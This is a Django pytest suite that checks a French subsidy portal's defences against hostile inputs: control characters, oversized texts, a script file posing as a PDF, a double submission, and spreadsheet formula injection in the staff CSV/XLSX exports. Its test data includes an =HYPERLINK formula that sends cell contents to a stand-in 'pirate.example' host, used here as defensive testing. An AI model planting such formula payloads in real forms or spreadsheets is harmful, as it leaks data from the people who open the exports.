"""Hostile inputs typed in the association space: formula-like names, control
characters, very long texts, a request submitted twice at once, a file renamed .pdf
that is not one. Each is refused on its field in French and nothing is saved, or made
harmless where the staff read it back (the CSV and XLSX exports, the complete file's
CSV)."""

import csv
import io
import threading

import openpyxl
import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection, connections
from django.test import Client

from conventions import bundles
from pilotage.portail.forms_request import TEXT_MAX_LENGTH
from subventions.enums import ApplicationStatus, Role
from subventions.models import Application, Beneficiary, Subsidy

from .helpers import ASSOCIATION, budget_data, fill, project_data, step_url

pytestmark = pytest.mark.django_db

VT = "\x0b"  # a vertical tab pasted from a word processor
CONTROL = "caractère de contrôle invisible (U+000B)"
FORMULA = '=HYPERLINK("http://pirate.example/?"&A1;"Cliquez")'


@pytest.fixture
def policy_area():
    from tests.subventions.factories import PolicyAreaFactory

    return PolicyAreaFactory()


@pytest.fixture
def application(client, account, association):
    client.force_login(account)
    client.post(f"/association/associations/{association.pk}/demande/", {"year": 2026})
    return Application.objects.get()


# Control characters and very long texts: on their field, nothing saved.


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("legal_name", f"Les Jardins{VT}partagés", CONTROL),
        ("representative_name", f"Camille{VT}Durand", CONTROL),
        ("city", "Lille\nFives", "tient sur une ligne"),
        ("address", f"12 rue{VT}des Lilas", CONTROL),
        ("object", f"Jardiner{VT}ensemble", CONTROL),
        ("object", "x" * (TEXT_MAX_LENGTH + 1), f"au plus {TEXT_MAX_LENGTH} caractères"),
        ("approvals", "x" * (TEXT_MAX_LENGTH + 1), f"au plus {TEXT_MAX_LENGTH} caractères"),
    ],
)
def test_the_association_step_refuses_control_characters_and_endless_texts(
    client, application, field, value, message
):
    before = dict(application.association)
    response = client.post(step_url(application, "association"), {**ASSOCIATION, field: value})
    assert response.status_code == 200
    errors = " ".join(response.context["form"].errors[field]).replace("\u00a0", " ")
    assert message in errors
    application.refresh_from_db()
    assert application.association == before


def test_the_project_step_refuses_an_endless_description(client, application, policy_area):
    data = {**project_data(policy_area), "project_description": "x" * (TEXT_MAX_LENGTH + 1)}
    response = client.post(step_url(application, "projet"), data)
    assert response.status_code == 200
    assert f"au plus {TEXT_MAX_LENGTH}" in " ".join(
        response.context["form"].errors["project_description"]
    )
    application.refresh_from_db()
    assert application.project_title == ""


@pytest.mark.parametrize(
    ("axis", "field"),
    [
        ((f"Cultiver{VT}ensemble", ""), "title"),
        (("Cultiver", f"Avec{VT}les écoles"), "description"),
    ],
)
def test_an_axis_with_a_control_character_is_refused_on_the_axis(
    client, application, policy_area, axis, field
):
    response = client.post(step_url(application, "projet"), project_data(policy_area, axes=[axis]))
    assert response.status_code == 200
    assert CONTROL in " ".join(response.context["axes"].forms[0].errors[field])
    application.refresh_from_db()
    assert application.axes == []


def test_a_funder_with_a_control_character_is_refused_on_its_line(client, application):
    funders = [("region", f"la Région{VT}Hauts-de-France", "4 000")]
    response = client.post(step_url(application, "budget"), budget_data(funders=funders))
    assert response.status_code == 200
    assert CONTROL in " ".join(response.context["funders"].forms[0].errors["name"])
    application.refresh_from_db()
    assert application.funders == [] and application.budget == {}


def test_a_membership_request_with_a_control_character_is_refused(client, make_account):
    client.force_login(make_account())
    response = client.post(
        "/association/rattachement/",
        {"rna": "W595099999", "legal_name": f"Les{VT}Jardins", "role_in_association": "trésorier"},
    )
    assert response.status_code in (200, 400)
    assert CONTROL in " ".join(response.context["form"].errors["legal_name"])
    assert not Beneficiary.objects.filter(rna="W595099999").exists()


def test_a_file_renamed_pdf_is_refused_on_the_attestations_way_to_the_vault(
    client, application, association
):
    response = client.post(
        f"/association/associations/{association.pk}/coffre-fort/",
        {
            "kind": "statuts",
            "file": SimpleUploadedFile(
                "statuts.pdf", b"<html><script>alert(1)</script></html>", "application/pdf"
            ),
        },
    )
    assert response.status_code == 400
    assert "pas un PDF" in " ".join(response.context["form"].errors["file"])
    assert not association.vault_documents.exists()


# Formula-like names typed by an association, read back by the staff in their exports.


def test_formula_like_names_never_run_in_the_staff_exports(
    client, application, policy_area, make_account, make_user
):
    fill(client, application, policy_area)
    response = client.post(
        step_url(application, "projet"),
        {**project_data(policy_area), "axes-INITIAL_FORMS": "2", "project_title": FORMULA},
    )
    assert response.status_code == 302, response.context["form"].errors
    funders = [
        ("region", "@SUM(A1:A9)", "4 000"),
        ("departement", "+33 le Département", "3 000,50"),
    ]
    response = client.post(
        step_url(application, "budget"),
        {**budget_data(funders=funders), "financeurs-INITIAL_FORMS": "2"},
    )
    assert response.status_code == 302, response.context["funders"].errors
    assert client.post(f"/association/demandes/{application.pk}/deposer/").status_code == 302
    subsidy = Subsidy.objects.get()
    assert subsidy.title == FORMULA  # kept as typed, shown as text
    # A person asks to act for an association the authority does not know yet.
    client.force_login(make_account())
    client.post(
        "/association/rattachement/",
        {"rna": "W595099999", "legal_name": "-2+3 Les Jardins", "role_in_association": "=1+1"},
    )
    assert Beneficiary.objects.filter(legal_name="-2+3 Les Jardins").exists()

    client.force_login(make_user(Role.INSTRUCTOR))
    cells = csv_cells(client.get("/dossiers/export/csv/"))
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell and cell[0] in "=+-@" and not is_number(cell)]
    cells = csv_cells(client.get("/beneficiaires/export/csv/"))
    assert "'-2+3 Les Jardins" in cells
    assert not [cell for cell in cells if cell and cell[0] in "=+-@" and not is_number(cell)]
    for url in ("/dossiers/export/xlsx/", "/beneficiaires/export/xlsx/"):
        response = client.get(url)
        content = b"".join(response.streaming_content)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        formulas = [
            cell.value for row in sheet.iter_rows() for cell in row if cell.data_type == "f"
        ]
        assert formulas == [], url
        values = {cell.value for row in sheet.iter_rows() for cell in row}
        assert FORMULA in values or "-2+3 Les Jardins" in values, url


def test_the_complete_files_csv_never_runs_a_name_as_a_formula():
    """The history and payments CSV of the « dossier complet » (conventions.bundles) carry
    the names of the people who acted, an association's account among them."""
    content = bundles._csv(
        ["Par", "Montant (€)", "Motif"],
        [[FORMULA, "-1500,00", "@SUM(A1)"], ["Camille Durand", "12,50", "+33 remboursé"]],
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1] == [f"'{FORMULA}", "-1500,00", "'@SUM(A1)"]
    assert rows[2] == ["Camille Durand", "12,50", "'+33 remboursé"]


def csv_cells(response) -> list[str]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]


def is_number(cell: str) -> bool:
    return cell.lstrip("-").replace(",", "").isdigit()


# The same request submitted twice at once: one file, never two.


def test_a_second_submission_shows_the_one_file(client, application, policy_area):
    fill(client, application, policy_area)
    client.post(f"/association/demandes/{application.pk}/deposer/")
    again = client.post(f"/association/demandes/{application.pk}/deposer/", follow=True)
    assert again.status_code == 200
    assert Subsidy.objects.count() == 1
    assert len(mail.outbox) == 1  # one acknowledgment


@pytest.mark.postgresql
@pytest.mark.django_db(transaction=True)
def test_two_submissions_at_once_create_one_file(account, association, policy_area):
    if connection.vendor != "postgresql":
        pytest.skip("needs PostgreSQL (DATABASE_URL=postgres://…)")
    first = Client()
    first.force_login(account)
    first.post(f"/association/associations/{association.pk}/demande/", {"year": 2026})
    application = Application.objects.get()
    fill(first, application, policy_area)
    second = Client()
    second.force_login(account)
    barrier = threading.Barrier(2)
    statuses, errors = [], []

    def submit(browser):
        try:
            barrier.wait()
            response = browser.post(f"/association/demandes/{application.pk}/deposer/")
            statuses.append(response.status_code)
        except Exception as error:  # reported by the test
            errors.append(error)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=submit, args=(browser,)) for browser in (first, second)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert statuses == [302, 302]
    assert Subsidy.objects.count() == 1
    application.refresh_from_db()
    assert application.status == ApplicationStatus.SUBMITTED
    assert application.subsidy == Subsidy.objects.get()
    assert len(mail.outbox) == 1
